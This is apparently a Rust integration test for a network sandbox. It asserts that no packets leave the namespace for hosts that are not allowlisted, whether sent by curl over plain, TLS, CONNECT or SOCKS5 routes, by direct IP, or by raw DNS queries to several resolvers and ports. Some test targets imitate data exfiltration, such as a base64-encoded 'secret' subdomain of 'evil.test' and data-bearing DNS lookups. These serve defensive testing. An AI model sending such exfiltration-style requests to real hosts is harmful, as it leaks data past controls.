//! Packets that leave, as the wire outside sees them: none at all without a grant, by any way.

use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use super::{Jail, PLAIN, SOCKS};
use crate::support::{Who, need};

/// Every way that a program has, as a script.
fn ways(host: &str) -> Vec<(&'static str, String)> {
    let get = "curl -sS -m 5 -o /dev/null -f";
    vec![
        (
            "transparent, plain",
            format!("{PLAIN} {get} http://{host}/"),
        ),
        (
            "transparent, TLS",
            format!("{PLAIN} {get} -k https://{host}/"),
        ),
        ("absolute form", format!("{get} http://{host}/")),
        ("CONNECT", format!("{get} -k https://{host}/")),
        (
            "SOCKS5",
            format!("{get} -k --proxy {SOCKS} https://{host}/"),
        ),
        (
            "by the public address",
            format!("{PLAIN} {get} -k --resolve {host}:443:93.184.216.34 https://{host}/"),
        ),
    ]
}

/// Every packet of this network namespace, of whatever protocol.
struct Capture(OwnedFd);

impl Capture {
    fn start() -> Capture {
        let every = i32::from((libc::ETH_P_ALL as u16).to_be());
        let kind = libc::SOCK_RAW | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC;
        // SAFETY: no pointers; a new descriptor is nobody else's.
        let socket = unsafe {
            let socket = libc::socket(libc::AF_PACKET, kind, every);
            assert!(socket >= 0, "{}", std::io::Error::last_os_error());
            OwnedFd::from_raw_fd(socket)
        };
        Capture(socket)
    }

    /// How many came since this was asked last.
    fn packets(&self) -> usize {
        let mut bytes = [0u8; 2048];
        let mut count = 0;
        loop {
            // SAFETY: the buffer is as long as is said.
            let read = unsafe {
                libc::recv(
                    self.0.as_raw_fd(),
                    bytes.as_mut_ptr().cast(),
                    bytes.len(),
                    0,
                )
            };
            if read < 0 {
                let error = std::io::Error::last_os_error();
                assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock, "{error}");
                return count;
            }
            count += 1;
        }
    }
}

/// Questions for a name, to the resolver and to others, by UDP and TCP.
fn questions(host: &str) -> String {
    format!(
        r#"
import socket, struct
name = b''.join(bytes([len(l)]) + l for l in b'{host}'.split(b'.')) + b'\0'
for kind in (1, 28, 65, 16, 255):
    question = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1)
    for server in ('198.18.0.1', '8.8.8.8', '93.184.216.34'):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
        s.sendto(question, (server, 53)); s.recv(4096)
        s = socket.create_connection((server, 53), 5)
        s.sendall(struct.pack('>H', len(question)) + question); s.recv(4096)
    for port in (443, 123, 5353):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
        try: s.connect(('93.184.216.34', port)); s.send(question); s.recv(10); print('answered')
        except OSError: pass
print('asked')
"#
    )
}

each!(no_packet_leaves_for_what_is_not_granted);
fn no_packet_leaves_for_what_is_not_granted(who: Who) {
    need("curl");
    let Some(jail) = Jail::new(who, "mode = \"allowlist\"\nallow = [\"web.test\"]") else {
        return;
    };
    let capture = Capture::start();
    for host in [
        "other.test",
        "c2VjcmV0.evil.test",
        "93.184.216.34",
        "10.0.0.1",
    ] {
        for (way, script) in ways(host) {
            let ran = jail.sh(&format!("{script} && echo reached"));
            assert!(!ran.stdout.contains("reached"), "{host}, {way}: {ran:#?}");
            assert_eq!(capture.packets(), 0, "{who:?}: {host}, {way}");
        }
    }
    for host in ["other.test", "c2VjcmV0.web.test"] {
        assert_eq!(jail.python(&questions(host)).ok().stdout, "asked\n");
        assert_eq!(capture.packets(), 0, "{who:?}: questions for {host}");
    }
    // Questions for a granted name are answered inside too.
    assert_eq!(jail.python(&questions("web.test")).ok().stdout, "asked\n");
    assert_eq!(capture.packets(), 0, "{who:?}: questions for web.test");
    // The control: the same ways, and the packets are seen.
    let by_address = ways("web.test").len() - 1;
    for (way, script) in ways("web.test").into_iter().take(by_address) {
        let ran = jail.sh(&format!("{script} && echo reached"));
        assert!(ran.stdout.contains("reached"), "{way}: {ran:#?}");
        assert!(capture.packets() > 0, "{who:?}: {way}");
    }
    let ran = jail.sh(&format!("{PLAIN} curl -sS -m 5 -k https://other.test/"));
    assert_ne!(ran.status, 0);
    assert_eq!(capture.packets(), 0, "{who:?}: nothing is left over");
}
